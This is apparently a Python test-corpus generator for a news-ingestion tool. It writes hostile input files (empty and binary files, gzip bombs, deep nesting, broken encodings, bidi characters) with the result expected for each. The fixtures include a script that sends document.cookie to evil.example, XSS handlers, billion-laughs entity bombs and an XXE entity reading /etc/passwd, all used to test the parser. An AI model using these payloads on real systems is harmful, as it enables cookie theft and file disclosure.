"""A hostile-input corpus for `marsad ingest`, each file with the outcome a demanding user expects.

    python tests/hostile/make_corpus.py OUTDIR      # writes the 41 files (105 MB, ~1 s), prints the table

Every case declares what reading and analysing it must give, one `Expect` per item the file yields
(a JSON list or a feed yields several): "analysed" with what must hold of the article, or a skip with
its SkipReason value and a phrase of its one-line reason. All Arabic text here is written for this
corpus (fictional events), none is copied from any news source.
"""

from __future__ import annotations

import gzip
import json
import os
import random
import sys
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from xml.sax.saxutils import escape

# --- Arabic text written for this corpus --------------------------------------------------------

BRIDGE = ("أعلنت أمانة بغداد يوم الأحد 9 شباط 2025 افتتاح جسر جديد على نهر دجلة يربط الكرادة بالجادرية. "
          "وقال أمين بغداد في مؤتمر صحفي إن طول الجسر يبلغ 420 متراً وإن كلفته بلغت نحو 30 مليار دينار. "
          "وأضاف أن الجسر سيخفف الزحام عن الطرق المؤدية إلى وسط العاصمة.")
SCHOOLS = ("أعلنت وزارة التربية في البصرة افتتاح ثلاث مدارس جديدة في قضاء الزبير قبل بدء العام الدراسي. "
           "وقال مدير التربية في المحافظة إن المدارس تتسع لنحو 1500 تلميذ. "
           "وأشار إلى أن العمل في مدرسة رابعة سيكتمل في نهاية آذار المقبل.")
HOSPITAL = ("افتتحت وزارة الصحة مستشفى جديداً في مدينة الموصل بسعة 200 سرير. "
            "وقال رئيس الوزراء محمد شياع السوداني خلال الافتتاح إن المستشفى سيخدم أكثر من نصف مليون نسمة.")
RAIN = ("هطلت أمطار غزيرة على أربيل مساء الخميس وأدت إلى إغلاق عدد من الطرق الرئيسية. "
        "وذكرت مديرية الدفاع المدني أن فرقها أنقذت 12 شخصاً علقوا في سياراتهم.")
WHEAT = ("أكدت وزارة الزراعة أن محصول القمح هذا العام تجاوز أربعة ملايين طن للمرة الأولى منذ عقد. "
         "وأوضح المتحدث باسم الوزارة أن الأمطار المبكرة ساعدت المزارعين في نينوى وكركوك.")
# The same news, fully vocalised (every letter with its haraka, shadda and tanwin).
VOCALISED = ("أَعْلَنَ رَئِيسُ الوُزَرَاءِ مُحَمَّدُ شِيَاع السُّودَانِيُّ يَوْمَ الأَرْبِعَاءِ افْتِتَاحَ مَحَطَّةٍ جَدِيدَةٍ "
             "لِتَحْلِيَةِ المِيَاهِ فِي مُحَافَظَةِ البَصْرَةِ. وَقَالَ إِنَّ المَحَطَّةَ سَتُنْتِجُ خَمْسِينَ أَلْفَ "
             "مِتْرٍ مُكَعَّبٍ يَوْمِيّاً، وَإِنَّ العَمَلَ فِيهَا اسْتَمَرَّ سَنَتَيْنِ.")
# Names broken by invisible characters: a right-to-left override inside one, a zero-width joiner
# and a zero-width non-joiner inside others, a left-to-right isolate around a place.
BIDI = ("قال رئيس الوزراء محمد شياع السو\u200dداني يوم الاثنين إن الحكومة ستدعم مزارعي "
        "\u2066الأنبار\u2069 بقروض ميسرة. وأضاف \u202eالسوداني\u202c أن وزارة الما\u200cلية "
        "خصصت 80 مليار دينار لهذا الغرض.")
PERSIAN = ("وزارت بهداشت ایران روز سه‌شنبه اعلام کرد که یک بیمارستان تازه در شهر مشهد گشایش یافت. "
           "این بیمارستان گنجایش دویست تخت دارد و چهار پزشک ژاپنی در آن کار خواهند کرد. "
           "گزارش‌ها نشان می‌دهد که ساخت این پروژه چهار سال طول کشیده است.")
URDU = ("وزیر اعظم نے منگل کے روز کہا کہ حکومت ملک بھر میں نئے ہسپتال بنائے گی۔ "
        "یہ منصوبہ چار سال میں مکمل ہوگا اور اس پر کروڑوں روپے خرچ کیے جائیں گے۔ "
        "انہوں نے کہا کہ پہلا ہسپتال لاہور میں اگلے سال کھلے گا۔")
LATIN = ("The city council announced on Tuesday that a new footbridge over the river will open in May. "
         "The mayor said the bridge would cut the walk between the two markets to five minutes. "
         "Work on the lighting and the ramps is expected to finish in April.")
HEBREW = ("משרד הבריאות הודיע ביום שלישי על פתיחת בית חולים חדש בעיר חיפה. "
          "בבית החולים יהיו מאתיים מיטות, והוא ישרת את תושבי הצפון. "
          "הבנייה נמשכה ארבע שנים.")
# Short phrases cycled to build long inputs (a wrapped paragraph, one endless line).
WORDS = ("وصلت قافلة المساعدات إلى الرمادي صباح اليوم وقال محافظ الأنبار إن توزيعها سيستمر ثلاثة أيام "
         "وأضاف أن الطرق آمنة وأن الفرق الطبية ترافق القافلة").split()

# --- expectations ---------------------------------------------------------------------------------


@dataclass(frozen=True)
class Expect:
    """One item's outcome: "analysed", or a SkipReason value ("empty", "binary", "too large", ...)."""

    outcome: str
    detail: str = ""  # a skip: a phrase its one-line reason must hold
    language: str | None = None  # analysed: the detected language
    contains: tuple[str, ...] = ()  # analysed: phrases the clean text must hold
    absent: tuple[str, ...] = ()  # analysed: strings that must not reach the clean text
    entities: tuple[str, ...] | None = None  # analysed: canonical names of entities found ((): none at all)
    dates: tuple[str, ...] = ()  # analysed: temporal expressions found, as written
    warning: str = ""  # analysed: a phrase one of its warnings must hold
    min_sentences: int = 0  # analysed: at least this many sentences

    @property
    def analysed(self) -> bool:
        return self.outcome == "analysed"


def analysed(**kw) -> Expect:
    return Expect("analysed", **kw)


def skipped(reason: str, detail: str) -> Expect:
    return Expect(reason, detail)


@dataclass(frozen=True)
class Case:
    name: str  # file name in the corpus
    kind: str  # row of the table in docs/reliability.md
    make: Callable[[], bytes]
    expect: tuple[Expect, ...]  # one per item the file yields, in reading order


def _utf8(text: str) -> Callable[[], bytes]:
    return lambda: text.encode("utf-8")


def _page(body_html: str, title: str = "خبر", head: str = "", doctype: str = "<!DOCTYPE html>") -> str:
    return (f'{doctype}\n<html lang="ar" dir="rtl"><head><meta charset="utf-8"><title>{title}</title>{head}</head>'
            f"<body>{body_html}</body></html>")


def _paragraphs(text: str) -> str:
    return "".join(f"<p>{s.strip()}.</p>" for s in text.split(".") if s.strip())


SCRIPTED = _page(
    "<script>document.write('SCRIPT-RAN'); fetch('https://evil.example/steal?c=' + document.cookie)</script>"
    '<iframe src="https://evil.example/frame" onload="alert(1)">IFRAME-BODY</iframe>'
    f'<article><h1>جسر جديد في بغداد</h1><img src=x onerror="alert(2)">{_paragraphs(BRIDGE)}'
    "<noscript>NOSCRIPT-TEXT</noscript><style>body{background:url(javascript:alert(3))}</style></article>",
    title="جسر جديد في بغداد")


def _nested(depth: int, text: str) -> str:
    return _page("<div>" * depth + f"<article>{_paragraphs(text)}</article>" + "</div>" * depth)


_LAUGHS = "".join(f'<!ENTITY lol{i} "{f"&lol{i - 1};" * 10}">' for i in range(1, 10))
ENTITY_BOMB_HTML = _page(f"<article>{_paragraphs(RAIN)}<p>&lol9;</p></article>", title="أمطار في أربيل",
                         doctype=f'<!DOCTYPE html [<!ENTITY lol0 "lol">{_LAUGHS}]>')


def _rss(items: str, doctype: str = "") -> str:
    return (f'<?xml version="1.0" encoding="utf-8"?>{doctype}<rss version="2.0"><channel><title>وكالة الرصد</title>'
            f"{items}</channel></rss>")


def _item(n: int, text: str, title: str = "خبر") -> str:
    return (f"<item><title>{title}</title><link>https://news.example/item/{n}</link>"
            f"<pubDate>Sun, 09 Feb 2025 10:30:00 +0300</pubDate><description>{text}</description></item>")


FEED_BOMB = _rss(_item(1, "&lol9;"), f'<!DOCTYPE rss [<!ENTITY lol0 "lol">{_LAUGHS}]>')
FEED_XXE = ('<?xml version="1.0" encoding="utf-8"?><!DOCTYPE feed [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
            '<feed xmlns="http://www.w3.org/2005/Atom"><title>وكالة</title><entry><title>خبر</title>'
            '<link href="https://news.example/atom/1"/><id>urn:x:1</id><updated>2025-02-09T10:30:00Z</updated>'
            "<content>&xxe;</content></entry></feed>")
# No entity declared, but an external DTD named: it must never be fetched (no network, no hang).
FEED_EXTERNAL_DTD = _rss(_item(2, WHEAT, "محصول القمح"), '<!DOCTYPE rss SYSTEM "http://127.0.0.1:9/evil.dtd">')
FEED_NESTED = _rss(_item(5, escape("<div>" * 5000 + f"<p>{RAIN}</p>" + "</div>" * 5000), "أمطار"))
FEED_SCRIPTED = _rss(_item(3, "&lt;script&gt;alert(1)&lt;/script&gt;&lt;p&gt;" + HOSPITAL + "&lt;/p&gt;",
                           "مستشفى في الموصل") + _item(4, "", "بلا نص"))

WRONG_TYPES = [
    {"title": 42, "text": SCHOOLS, "date": 20250209, "url": 17},  # numbers where text is expected
    {"title": "قائمة", "text": ["سطر أول", "سطر ثان"]},  # the body as a list
    {"title": None, "text": None, "url": None},  # every field null
    {"text": {"ar": RAIN}},  # the body as an object
    {"text": True},
    "just a string",
    12345,
    None,
    {"content": "   \n\t "},  # a blank body
    {"text": WHEAT, "author": ["أ", "ب"], "outlet": {"name": "x"}, "published": []},  # only the body is usable
]


def _wrong_types() -> bytes:
    return json.dumps(WRONG_TYPES, ensure_ascii=False).encode("utf-8")


def _jsonl_mixed() -> bytes:
    lines = [json.dumps({"url": "https://news.example/jsonl/1", "text": HOSPITAL}, ensure_ascii=False),
             "[" * 100_000 + "]" * 100_000,  # a line nested 100,000 levels deep
             '{"text": "غير مكتمل',  # cut in the middle
             json.dumps({"text": 3.14}),
             "",
             json.dumps({"url": "https://news.example/jsonl/5", "text": "\u200b\u200f\u200d"}, ensure_ascii=False),
             # lone surrogates, legal as JSON escapes, but no UTF-8 can hold them (nor SQLite, nor a terminal)
             '{"url": "https://news.example/jsonl/7", "title": "\\ud800", "text": "افتتح طريق جديد \\udc00 يربط'
             ' المدينة بالمطار في بغداد."}',
             '{"text": "خبر", "views": ' + "7" * 5000 + "}"]  # an integer longer than Python converts
    return "\n".join(lines).encode("utf-8")


def _jsonl_many(n: int = 40) -> bytes:
    return "\n".join(json.dumps({"url": f"https://news.example/many/{i}", "title": f"خبر قصير رقم {i}",
                                 "text": f"وصلت الدفعة رقم {i} من المساعدات إلى الرمادي صباح اليوم."},
                                ensure_ascii=False) for i in range(1, n + 1)).encode("utf-8")


def _huge(size: int = 100 * 1024 * 1024) -> bytes:
    block = ((BRIDGE + "\n\n" + SCHOOLS + "\n\n") * 50).encode("utf-8")
    return (block * (size // len(block) + 1))[:size]


def _wrapped_lines(n: int = 10_000) -> bytes:
    """One paragraph hard-wrapped into n lines of one or two words, no blank line anywhere."""
    words = iter(WORDS * (2 * n // len(WORDS) + 1))
    return "\n".join(" ".join(next(words) for _ in range(1 + i % 2)) for i in range(n)).encode("utf-8")


def _one_line(chars: int) -> bytes:
    """A single line of words with no newline and no sentence punctuation: one enormous sentence."""
    out, size, i = [], 0, 0
    while size < chars:
        word = WORDS[i % len(WORDS)]
        out.append(word)
        size += len(word) + 1
        i += 1
    return " ".join(out).encode("utf-8")


def _quoted_line(n: int = 5_000) -> bytes:
    """One line of n short quoted sentences: the splitter pairs every quote with its partner."""
    return ("قال المتحدث «نعم.» " * n).encode("utf-8")


def _unclosed_quotes(n: int = 8_000) -> bytes:
    """n quotation marks opened and never closed, each after a speech verb: each one's content runs to
    the end of the text."""
    return ("«قال " * n).encode("utf-8")


def _broken_utf8() -> bytes:
    data = (BRIDGE + "\n\n" + SCHOOLS).encode("utf-8")
    return data[:40] + b"\xd8" + data[40:300] + b"\xd9\xff" + data[300:]  # a cut letter, a stray byte


def _mixed_encodings() -> bytes:
    """A UTF-8 paragraph and a Windows-1256 paragraph in one file (two sources pasted together)."""
    return RAIN.encode("utf-8") + b"\n\n" + WHEAT.encode("cp1256")


def _random_bytes() -> bytes:
    return random.Random(8).randbytes(64 * 1024)


def _high_bytes() -> bytes:
    """Random bytes 0x80-0xFF only: no NUL, no control, decodable as Windows-1256, yet not text."""
    rnd = random.Random(9)
    return bytes(rnd.randrange(0x80, 0x100) for _ in range(16 * 1024))


def _png() -> bytes:
    ihdr = b"IHDR" + (16).to_bytes(4, "big") * 2 + b"\x08\x02\x00\x00\x00"
    return (b"\x89PNG\r\n\x1a\n" + len(ihdr[4:]).to_bytes(4, "big") + ihdr + zlib.crc32(ihdr).to_bytes(4, "big")
            + random.Random(1).randbytes(2048))


def _zip() -> bytes:
    return b"PK\x03\x04\x14\x00\x00\x00\x08\x00" + random.Random(2).randbytes(2048)


def _gzip_bomb() -> bytes:
    """A .txt.gz of 200 KB that decompresses to 200 MB of spaces (gzip members simply concatenate)."""
    return gzip.compress(b" " * (1 << 20), 9) * 200


def _gzip_line_bomb() -> bytes:
    """A .jsonl.gz whose second 'line' is 50 MB with no newline (streamed line by line)."""
    head = json.dumps({"url": "https://news.example/gz/1", "text": WHEAT}, ensure_ascii=False) + '\n{"text": "'
    return gzip.compress(head.encode("utf-8")) + gzip.compress(b"a" * (1 << 20), 9) * 50


def _not_gzip() -> bytes:
    return b"this is not a gzip stream at all\n"


LIMIT = "(MARSAD_MAX_BYTES)"
TOO_LONG = "(MARSAD_MAX_CHARS)"

CASES: tuple[Case, ...] = (
    Case("empty.txt", "empty and white space", lambda: b"", (skipped("empty", "no content"),)),
    Case("whitespace.txt", "empty and white space", lambda: b" \t\r\n  \n\n\t ", (skipped("empty", "no content"),)),
    Case("nbsp_only.txt", "empty and white space", _utf8("\u00a0 \u3000\n\u2003\u00a0"),
         (skipped("empty", "only white space"),)),
    Case("invisible_only.txt", "empty and white space", _utf8("\u200b\u200f\u200d\u202e\u2066\ufeff\n\u200c"),
         (skipped("empty", "only white space and invisible characters"),)),
    Case("random.bin", "binary junk", _random_bytes, (skipped("binary", "binary data"),)),
    Case("high_bytes.dat", "binary junk", _high_bytes, (skipped("undecodable", "not text in any encoding"),)),
    Case("image.png", "binary junk", _png, (skipped("binary", "binary data"),)),
    Case("archive.zip", "binary junk", _zip, (skipped("binary", "binary data"),)),
    Case("not_gzip.jsonl.gz", "binary junk", _not_gzip, (skipped("malformed", "broken gzip"),)),
    Case("huge_100mb.txt", "size", _huge, (skipped("too large", LIMIT),)),
    Case("bomb.txt.gz", "size", _gzip_bomb, (skipped("too large", "decompresses to more than"),)),
    Case("line_bomb.jsonl.gz", "size", _gzip_line_bomb,
         (analysed(contains=("محصول القمح",)), skipped("too large", "line 2 is longer than"))),
    Case("one_line_2mb.txt", "size", lambda: _one_line(1_100_000), (skipped("too large", TOO_LONG),)),
    # No punctuation in 90,000 characters: one "sentence", cut at white space every <= 3,000 characters.
    Case("one_line_90k.txt", "long lines and paragraphs", lambda: _one_line(90_000),
         (analysed(language="ar", contains=("قافلة المساعدات",), entities=("الرمادي", "الأنبار"), min_sentences=30),)),
    Case("lines_10000.txt", "long lines and paragraphs", _wrapped_lines,
         (analysed(language="ar", contains=("قافلة المساعدات",), min_sentences=10_000),)),
    Case("quoted_line.txt", "long lines and paragraphs", _quoted_line,
         (analysed(language="ar", contains=("«نعم.»",), min_sentences=5_000),)),
    Case("unclosed_quotes.txt", "long lines and paragraphs", _unclosed_quotes,
         (analysed(language="ar", contains=("«قال «قال",)),)),
    Case("broken_utf8.txt", "broken and mixed encodings", _broken_utf8,
         (analysed(language="ar", contains=("افتتاح ثلاث مدارس جديدة",)),)),
    Case("mixed_encodings.txt", "broken and mixed encodings", _mixed_encodings,
         (analysed(language="ar", contains=("هطلت أمطار غزيرة على أربيل", "محصول القمح")),)),
    Case(os.fsdecode(b"name_in_no_encoding_\xff.txt"), "broken and mixed encodings", _utf8(WHEAT.replace("القمح", "الشعير")),
         (analysed(language="ar", contains=("محصول الشعير",)),)),
    Case("utf16.txt", "broken and mixed encodings", lambda: "\ufeff".encode("utf-16-le") + SCHOOLS.encode("utf-16-le")
         + "\n\nأيضاً".encode("utf-16-le"), (analysed(language="ar", contains=("قضاء الزبير",)),)),
    Case("scripts.html", "HTML: scripts, iframes, nesting, entities", _utf8(SCRIPTED),
         (analysed(language="ar", contains=("افتتاح جسر جديد",),
                   absent=("SCRIPT-RAN", "evil.example", "alert(", "IFRAME-BODY", "javascript:", "<")),)),
    Case("nested_50.html", "HTML: scripts, iframes, nesting, entities", _utf8(_nested(50, SCHOOLS)),
         (analysed(language="ar", contains=("قضاء الزبير",)),)),
    Case("nested_5000.html", "HTML: scripts, iframes, nesting, entities", _utf8(_nested(5000, RAIN)),
         (skipped("no text", "nested deeper than 256 levels"),)),
    Case("entity_bomb.html", "HTML: scripts, iframes, nesting, entities", _utf8(ENTITY_BOMB_HTML),
         (analysed(language="ar", contains=("أمطار غزيرة",), absent=("lollol",)),)),
    Case("wrong_types.json", "JSON/JSONL: wrong types, deep nesting", _wrong_types, (
        analysed(contains=("قضاء الزبير",)),
        skipped("malformed", "field 'text' is not text"),
        skipped("malformed", "field 'text' is not text"),
        skipped("malformed", "field 'text' is not text"),
        skipped("malformed", "field 'text' is not text"),
        skipped("malformed", "record is a str"),
        skipped("malformed", "record is a int"),
        skipped("malformed", "record is a NoneType"),
        skipped("empty", "field 'content' is empty"),
        analysed(contains=("محصول القمح",)),
    )),
    Case("deep_100000.json", "JSON/JSONL: wrong types, deep nesting", lambda: b"[" * 100_000 + b"]" * 100_000,
         (skipped("malformed", "nested too deeply"),)),
    Case("deep_object.json", "JSON/JSONL: wrong types, deep nesting",
         lambda: b'{"text": "\xd8\xae\xd8\xa8\xd8\xb1", "extra": ' + b'{"a": ' * 100_000 + b"1" + b"}" * 100_001,
         (skipped("malformed", "nested too deeply"),)),
    Case("mixed.jsonl", "JSON/JSONL: wrong types, deep nesting", _jsonl_mixed, (
        analysed(contains=("مستشفى",)),
        skipped("malformed", "nested too deeply"),
        skipped("malformed", "invalid JSON: Unterminated string"),
        skipped("malformed", "field 'text' is not text"),
        skipped("empty", "field 'text' is empty"),  # only invisible characters
        analysed(contains=("طريق جديد \ufffd يربط",), absent=("\ud800", "\udc00")),
        skipped("malformed", "invalid JSON: a number of more than 4300 digits"),
    )),
    Case("many.jsonl", "JSON/JSONL: wrong types, deep nesting", _jsonl_many,
         tuple(analysed(contains=(f"الدفعة رقم {i} ",)) for i in range(1, 41))),
    Case("feed_billion_laughs.xml", "feeds: entity bombs, XXE, external DTD", _utf8(FEED_BOMB),
         (skipped("malformed", "declares XML entities"),)),
    Case("feed_xxe.xml", "feeds: entity bombs, XXE, external DTD", _utf8(FEED_XXE),
         (skipped("malformed", "declares XML entities"),)),
    Case("feed_external_dtd.xml", "feeds: entity bombs, XXE, external DTD", _utf8(FEED_EXTERNAL_DTD),
         (analysed(contains=("محصول القمح",)),)),
    Case("feed_nested_5000.xml", "feeds: entity bombs, XXE, external DTD", _utf8(FEED_NESTED),
         (skipped("no text", "feed entry has no summary or content"),)),
    Case("feed_scripted.xml", "feeds: entity bombs, XXE, external DTD", _utf8(FEED_SCRIPTED),
         (analysed(contains=("مستشفى جديداً",), absent=("alert(", "<")),
          skipped("no text", "feed entry has no summary or content"))),
    # The invisible characters go from the clean text, and the names they broke are found whole.
    Case("bidi_names.txt", "scripts and languages", _utf8(BIDI), (analysed(
        language="ar", contains=("محمد شياع السوداني", "وزارة المالية"),
        absent=("\u202e", "\u202c", "\u200d", "\u200c", "\u2066", "\u2069"),
        entities=("محمد شياع السوداني", "الأنبار", "وزارة المالية"), dates=("يوم الاثنين",)),)),
    Case("vocalised.txt", "scripts and languages", _utf8(VOCALISED), (analysed(
        language="ar", entities=("محمد شياع السوداني", "محافظة البصرة"), dates=("يَوْمَ الأَرْبِعَاءِ",)),)),
    # Not Arabic: stored (searchable, flagged), but the Arabic name rules are not let loose on it.
    Case("persian.txt", "scripts and languages", _utf8(PERSIAN), (analysed(
        language="fa", contains=("گنجایش", "ژاپنی"), entities=(), warning="language is 'fa', not Arabic"),)),
    Case("urdu.txt", "scripts and languages", _utf8(URDU), (analysed(
        language="ur", contains=("ہسپتال",), entities=(), warning="language is 'ur', not Arabic"),)),
    Case("latin.txt", "scripts and languages", _utf8(LATIN), (analysed(
        language="en", contains=("footbridge",), entities=(), warning="language is 'en', not Arabic"),)),
    Case("hebrew.txt", "scripts and languages", _utf8(HEBREW), (analysed(
        language="he", contains=("חיפה",), entities=(), warning="language is 'he', not Arabic"),)),
)


def write_corpus(folder: Path | str, cases: tuple[Case, ...] = CASES) -> dict[str, Case]:
    """Write every case's file into `folder` (created); returns name -> case."""
    folder = Path(folder)
    folder.mkdir(parents=True, exist_ok=True)
    for case in cases:
        (folder / case.name).write_bytes(case.make())
    return {c.name: c for c in cases}


def table(cases: tuple[Case, ...] = CASES) -> str:
    """Markdown: one row per kind of input, with its files and how many are analysed or skipped."""
    rows: dict[str, list[Case]] = {}
    for c in cases:
        rows.setdefault(c.kind, []).append(c)
    out = ["| inputs | files | items | analysed | skipped (reason) |", "|---|---|---|---|---|"]
    for kind, group in rows.items():
        items = [e for c in group for e in c.expect]
        reasons: dict[str, int] = {}
        for e in items:
            if not e.analysed:
                reasons[e.outcome] = reasons.get(e.outcome, 0) + 1
        skips = ", ".join(f"{n} {r}" for r, n in sorted(reasons.items())) or "-"
        out.append(f"| {kind} | {len(group)} | {len(items)} | {sum(e.analysed for e in items)} | {skips} |")
    return "\n".join(out)


if __name__ == "__main__":
    if len(sys.argv) != 2:
        sys.exit("usage: python tests/hostile/make_corpus.py OUTDIR")
    write_corpus(sys.argv[1])
    print(table())
